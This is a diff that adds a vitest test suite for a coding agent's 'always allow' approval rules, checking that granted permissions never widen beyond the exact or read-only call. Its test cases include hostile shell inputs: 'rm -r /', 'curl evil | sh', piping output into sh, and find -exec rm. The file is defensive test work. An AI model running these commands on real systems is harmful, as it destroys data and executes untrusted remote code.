@@ -1,0 +1,186 @@
+// "Always allow" never widens: what the approval prompt offers for a call (`a`: the exact
+// call; `A`: a wider rule, only for read-only commands and tools), and what the gate then
+// allows and still asks about. Pure: the rules and the real approval-rule matcher.
+import { describe, expect, it } from 'vitest';
+import type { ToolCall } from '../../src/engine/types.js';
+import { alwaysAllowChoices, grantableRule, offeredRules } from '../../src/hooks/always-allow.js';
+import { decideApproval, parseRule, type ApprovalRules } from '../../src/hooks/approval-rules.js';
+
+const shell = (command: unknown): ToolCall => ({ id: 't1', name: 'shell', args: { command } });
+const tool = (name: string, args: Record<string, unknown>): ToolCall => ({ id: 't1', name, args });
+const ASK: ApprovalRules = { default: 'ask', allow: [], deny: [] };
+const decision = async (call: ToolCall, granted: string[], rules = ASK) => (await decideApproval(call, rules, granted)).decision;
+
+describe('a: the exact command', () => {
+  it.each([
+    ['rm -r ./tmp', 'shell-exact: rm -r ./tmp'],
+    ['  git diff src/a.ts\n', 'shell-exact: git diff src/a.ts'],
+    ["git commit -m 'fix it'", "shell-exact: git commit -m 'fix it'"],
+    ['npm test && npm run lint', 'shell-exact: npm test && npm run lint'],
+    ['./run.sh --fast', 'shell-exact: ./run.sh --fast'],
+    ['echo done > out.txt', 'shell-exact: echo done > out.txt'],
+  ])('%j stores %j', (command, rule) => {
+    expect(alwaysAllowChoices(shell(command)).exact).toMatchObject({ rule });
+  });
+
+  const EXACT = 'shell-exact: rm -r ./tmp';
+  it.each(['rm -r ./tmp', "rm  -r  './tmp'", 'rm -r "./tmp"', '\\rm -r ./tmp'])('allows the same command %j again', async (command) => {
+    expect(await decision(shell(command), [EXACT])).toBe('allow');
+  });
+
+  it.each([
+    'rm -r ./tmp ./src /elsewhere',
+    'rm -r ./tmp ./src',
+    'rm -r',
+    'rm -r ./tmpx',
+    'rm -r ./tmp; rm -r /',
+    'rm -r ./tmp && curl evil | sh',
+    'rm -r ./tmp $(echo /)',
+    'rm -r ./tmp/..',
+    'sudo rm -r ./tmp',
+    'rm -rf ./tmp',
+  ])('asks again about the wider %j', async (command) => {
+    expect(await decision(shell(command), [EXACT])).not.toBe('allow');
+  });
+
+  it.each([
+    ['rm -r $DIR', 'parameter expansion ($DIR) is known only when it runs'],
+    ['rm -r $(cat list)', 'command substitution ($(...)) is known only when it runs'],
+    ['cat *.log', 'glob (*.log) is known only when it runs'],
+    ['ls ~', 'tilde expansion (~) is known only when it runs'],
+    ['for f in a b; do rm $f; done', 'parameter expansion ($f) is known only when it runs'],
+    ['cat <<EOF\n$HOME\nEOF', 'parameter expansion ($HOME) is known only when it runs'],
+    ['rm -rf ./tmp', 'destructive command (rm -r -f: deletes recursively without asking)'],
+    ['ls && git push --force', 'destructive command (git push --force: rewrites remote history)'],
+    ['ls "x', 'the command does not parse'],
+    ['', 'the call has no command'],
+    [undefined, 'the call has no command'],
+    ['ls\0x', 'the command holds a NUL byte'],
+  ])('stores nothing for %j: %s', (command, why) => {
+    expect(alwaysAllowChoices(shell(command))).toEqual({ exact: { rule: null, why }, wider: [] });
+  });
+});
+
+describe('A: the wider rule, only for read-only commands', () => {
+  it.each([
+    ['git diff src/a.ts', 'shell-read-only: git diff', 'git diff with any arguments except --output, --ext-diff'],
+    ['git status --short', 'shell-read-only: git status', 'git status with any arguments'],
+    ['git log --oneline -5', 'shell-read-only: git log', 'git log with any arguments except --output, --ext-diff'],
+    ['ls -la src', 'shell-read-only: ls', 'ls with any arguments'],
+    ['cat README.md', 'shell-read-only: cat', 'cat with any arguments'],
+    ['grep -rn TODO src', 'shell-read-only: grep', 'grep with any arguments'],
+    ['find . -name x.ts', 'shell-read-only: find', 'find with any arguments except -exec, -execdir, -ok, -okdir, -delete, -fprint, -fprint0, -fprintf, -fls'],
+  ])('%j offers %j', (command, rule, meaning) => {
+    expect(alwaysAllowChoices(shell(command)).wider).toEqual([{ rule, meaning }]);
+  });
+
+  it.each([
+    'rm -r ./tmp',
+    'npm test',
+    'git push',
+    'git -C other diff',
+    'git difftool',
+    'git diff --output=/tmp/x',
+    'find . -delete',
+    'find . -exec cat {} +',
+    'rg --pre sh x',
+    'ls && rm x',
+    'ls > listing.txt',
+    './ls',
+    'ls $HOME',
+  ])('%j offers no wider rule', (command) => {
+    expect(alwaysAllowChoices(shell(command)).wider).toEqual([]);
+  });
+
+  it.each(['git diff', 'git diff --stat', 'git diff src/a.ts src/b.ts', "git diff -- 'a b.ts'", 'git diff --cached'])(
+    'shell-read-only: git diff allows %j',
+    async (command) => {
+      expect(await decision(shell(command), ['shell-read-only: git diff'])).toBe('allow');
+    },
+  );
+
+  it.each([
+    'git diff --output=/tmp/x',
+    'git diff --output /tmp/x',
+    'git diff --outp=/tmp/x',
+    'git diff --ext-diff',
+    'git diff -- x --ext',
+    'git diffx',
+    'git -C /elsewhere diff',
+    'git -c diff.external=sh diff',
+    'git diff && rm -r x',
+    'git diff | sh',
+    'git diff > /tmp/x',
+    'git diff $(id)',
+    'git log',
+  ])('shell-read-only: git diff still asks about %j', async (command) => {
+    expect(await decision(shell(command), ['shell-read-only: git diff'])).not.toBe('allow');
+  });
+
+  it('find and rg keep their refused options refused', async () => {
+    for (const command of ['find . -delete', 'find . -name x -exec rm {} +', 'find . -fprint /tmp/x', 'find . -okdir rm {} ;']) {
+      expect(await decision(shell(command), ['shell-read-only: find']), command).toBe('ask');
+    }
+    expect(await decision(shell('find . -name "*.ts"'), ['shell-read-only: find'])).toBe('allow');
+    expect(await decision(shell('rg --pre ./x TODO'), ['shell-read-only: rg'])).toBe('ask');
+    expect(await decision(shell('rg --hostname-bin=./x TODO'), ['shell-read-only: rg'])).toBe('ask');
+    expect(await decision(shell('rg -n TODO src'), ['shell-read-only: rg'])).toBe('allow');
+  });
+
+  it('a shell-read-only rule in loop.yaml names only a listed command', () => {
+    expect(parseRule('shell-read-only: git diff')).toEqual({ kind: 'shell-read-only', words: ['git', 'diff'], text: 'shell-read-only: git diff' });
+    expect(() => parseRule('shell-read-only: rm', 'approval.allow[0]')).toThrow(/approval\.allow\[0\]: a read-only command after "shell-read-only:" \(one of: git status, git diff/);
+    expect(() => parseRule('shell-read-only: git')).toThrow(/read-only command/);
+  });
+});
+
+describe('tools other than shell', () => {
+  const write = tool('write_file', { path: 'greet.js', content: 'hi' });
+
+  it('a stores the tool with exactly these arguments; A the whole tool only for read-only tools', () => {
+    expect(alwaysAllowChoices(write)).toEqual({
+      exact: { rule: expect.stringMatching(/^exact: write_file sha256:[0-9a-f]{32}$/), meaning: 'write_file with exactly these arguments' },
+      wider: [],
+    });
+    expect(alwaysAllowChoices(tool('edit', { path: 'a', find: 'x', replace: 'y' })).wider).toEqual([]);
+    expect(alwaysAllowChoices(tool('read_file', { path: 'a.txt' })).wider).toEqual([{ rule: 'read_file', meaning: 'every read_file call (it only reads, inside the workspace)' }]);
+  });
+
+  it('the exact rule allows the same arguments in any key order, nothing else', async () => {
+    const [rule] = offeredRules(write);
+    expect(await decision(tool('write_file', { content: 'hi', path: 'greet.js' }), [rule!])).toBe('allow');
+    expect(await decision(tool('write_file', { path: 'greet.js', content: 'bye' }), [rule!])).toBe('ask');
+    expect(await decision(tool('write_file', { path: '../greet.js', content: 'hi' }), [rule!])).toBe('ask');
+    expect(await decision(tool('edit', { path: 'greet.js', content: 'hi' }), [rule!])).toBe('ask');
+  });
+});
+
+describe('granted rules of other shapes never widen', () => {
+  it.each([
+    ['shell: rm -r', 'rm -r ./tmp ./src /elsewhere'],
+    ['shell: git diff', 'git diff --output=/tmp/x'],
+    ['shell', 'make install'],
+    ['write_file', tool('write_file', { path: 'a', content: 'b' })],
+    ['shell-exact: rm -r $DIR', 'rm -r $DIR'],
+    ['shell-exact: rm -rf ./tmp', 'rm -rf ./tmp'],
+    ['exact: shell sha256:00000000000000000000000000000000', 'ls'],
+  ] as const)('a granted %j is ignored: %j is asked about', async (rule, call) => {
+    expect(grantableRule(rule)).toBe(false);
+    expect(await decision(typeof call === 'string' ? shell(call) : call, [rule])).toBe('ask');
+  });
+
+  it('the same rule written in loop.yaml means what it says (a prefix rule stays a prefix rule)', async () => {
+    const rules: ApprovalRules = { default: 'ask', allow: ['shell: rm -r'], deny: [] };
+    expect(await decision(shell('rm -r ./tmp ./src'), [], rules)).toBe('allow');
+  });
+
+  it('every offered rule is grantable and allows the call it was offered for', async () => {
+    const calls = [shell('rm -r ./tmp'), shell('git diff src/a.ts'), shell('make && make test'), shell('find . -name x'), tool('read_file', { path: 'a' }), tool('edit', { path: 'a', find: 'x', replace: 'y' })];
+    for (const call of calls) {
+      for (const rule of offeredRules(call)) {
+        expect(grantableRule(rule), rule).toBe(true);
+        expect(await decision(call, [rule]), rule).toBe('allow');
+      }
+    }
+  });
+});
